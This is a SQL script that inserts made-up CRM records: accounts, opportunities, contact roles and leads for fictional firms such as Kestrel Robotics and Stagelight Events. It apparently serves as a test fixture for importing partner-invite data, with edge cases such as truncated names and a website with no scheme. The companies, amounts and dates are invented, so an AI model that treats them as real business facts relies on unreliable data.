INSERT INTO "written" VALUES('accounts','brandt-maschinenbau.example','acc_d2b2jgjotolanpfp','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-c1longtitle10','opp_i6pwozp67yhncmck','{"name":"Migration of the enterprise resource planning system of all European subsidiaries to the cloud, in phases by country and","account_id":"acc_d2b2jgjotolanpfp","amount":"1075680.00","monthly_spend":"89640.00","currency":"USD","close_date":"2028-06-30","industry":"Manufacturing","description":"The present system is no longer maintained after next year, and every subsidiary has changed it in its own way.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-c1longtitle10/ines.okafor@aws.example','ocr_6t3igqn65drhs3du','{"opportunity_id":"opp_i6pwozp67yhncmck","contact_id":"con_c75yuox4a64g22lj"}',1);
INSERT INTO "written" VALUES('opportunities','engi-c2longtitle20','opp_ddfqgscmhmv2mlj4','{"name":"Migration of the enterprise resource planning system of all European subsidiaries to the cloud, in phases by country and","account_id":"acc_d2b2jgjotolanpfp","amount":"77760.00","monthly_spend":"6480.00","currency":"USD","close_date":"2027-03-31","industry":"Manufacturing","description":"Payroll is outsourced today. It is to come back in house, and into the cloud at once.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-c2longtitle20/ines.okafor@aws.example','ocr_5oqepi7opbkacez6','{"opportunity_id":"opp_ddfqgscmhmv2mlj4","contact_id":"con_c75yuox4a64g22lj"}',1);
INSERT INTO "written" VALUES('leads','engi-p2unknownmem0','led_cmhfwj4z6rb5uvjh','{"company":"Kestrel Robotics","website":"https://kestrel-robotics.example","industry":"Robotics and Drones","country_code":"KR","country":"South Korea","segment":"Unicorn","aws_maturity":"Optimizing","title":"Chief Scientist","status":"New","source_name":"Generative AI webinar","use_case":"Generative AI","description":"We have a qualified lead that matches your expertise. Would you like to collaborate?"}',1);
INSERT INTO "written" VALUES('accounts','gravel brothers','acc_xiirrp6a2pmi5hnf','{}',1);
INSERT INTO "written" VALUES('opportunities','engi-f2websitenul0','opp_yxqxbekbkspxxwoy','{"name":"Fleet tracking","account_id":"acc_xiirrp6a2pmi5hnf","amount":"15006.00","monthly_spend":"1250.50","currency":"USD","close_date":"2026-10-31","industry":"Real Estate and Construction","description":"Nobody knows where the excavators are, and two were rented that stood in the yard.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline."}',1);
INSERT INTO "written" VALUES('opportunity_contact_roles','engi-f2websitenul0/ines.okafor@aws.example','ocr_b23ecvkler5s2lrn','{"opportunity_id":"opp_yxqxbekbkspxxwoy","contact_id":"con_c75yuox4a64g22lj"}',1);
INSERT INTO "written" VALUES('leads','engi-f3noscheme010','led_w36a6qbuxxt5c2ir','{"company":"Stagelight Events","website":"www.stagelight.example/tickets?ref=aws","industry":"Media and Entertainment","country_code":"US","country":"United States","status":"New","project_title":"Ticket shop for peak loads","description":"When a tour goes on sale the shop breaks down within a minute.\n\nThis invite is for an AWS originated opportunity. Accepting it adds the opportunity to your pipeline.","amount":"67200.00","currency":"USD","close_date":"2026-05-31"}',1);
COMMIT;
